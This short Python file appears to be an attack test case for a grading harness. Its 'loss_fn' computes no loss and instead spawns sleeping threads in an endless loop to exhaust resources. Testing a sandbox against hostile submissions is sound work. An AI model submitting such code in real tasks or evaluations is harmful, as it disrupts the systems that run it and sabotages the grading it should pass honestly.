# attack: threads without end
# points: at most 1
# says: loss_fn
import threading
import time


def model(t_u, w, b):
    return w * t_u + b


def loss_fn(t_p, t_c):
    while True:
        threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
